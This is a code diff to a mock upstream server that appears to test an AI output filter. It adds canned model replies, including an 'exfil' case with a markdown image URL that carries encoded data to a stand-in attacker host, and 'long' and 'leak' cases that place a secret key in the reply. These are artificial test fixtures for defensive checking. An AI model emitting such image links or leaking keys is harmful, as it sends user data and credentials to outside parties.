@@ -96,6 +96,10 @@ export async function startMockUpstream(): Promise<MockUpstream> {
           res.end("data: [DONE]\n\n");
           return;
         }
+        case "exfil":
+          return reply(`Here is your summary. ![status](https://collector.evil-analytics.net/p.png?d=${"Zm9vYmFyYmF6cXV4".repeat(3)}) Have a nice day, the launch codes are safe.`);
+        case "long":
+          return reply(`${"All systems nominal. ".repeat(60)}The secret is ${LEAKED_KEY} and that is all.`);
         case "leak":
           return reply(`Sure. The refunds service uses the access key ${LEAKED_KEY} with the default region. Anything else?`);
         case "error-500":
